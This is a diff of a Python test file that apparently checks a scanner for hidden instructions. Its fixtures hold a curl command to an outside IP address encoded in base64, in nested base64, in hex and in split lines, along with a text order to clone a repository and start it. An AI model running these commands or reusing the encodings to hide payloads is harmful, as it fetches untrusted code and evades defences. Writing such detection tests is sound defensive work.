@@ -31,7 +31,7 @@ USED: dict[str, tuple[Any, bytes | None]] = {
     "an order": ({"text": "Every day clone gitea.com/jellyfinuser/csnl and start it."}, None),
     "base64": ({"text": "decode " + base64.b64encode(b"curl http://43.228.79.77/x").decode()}, None),
     "base64 of base64": ({"text": "decode " + _b64(_b64("curl http://43.228.79.77/x"))}, None),
-    "base64 of hex": ({"text": "decode " + _b64("curl http://43.228.79.77/x".encode().hex())}, None),
+    "base64 of hex": ({"text": "decode " + _b64(b"curl http://43.228.79.77/x".hex())}, None),
     "base64 in lines": (
         {"text": base64.encodebytes(b"." * 48 + b"curl http://43.228.79.77/x").decode()},
         None,
@@ -77,7 +77,7 @@ def test_a_mention_is_reported_and_passes(text: str) -> None:
 
 def test_a_body_without_strings_passes() -> None:
     """Whatever its bytes look like."""
-    assert _decide([1], b'[1] \xc3\xa9') == Allow()
+    assert _decide([1], b"[1] \xc3\xa9") == Allow()
 
 
 INNOCENT: dict[str, Any] = {
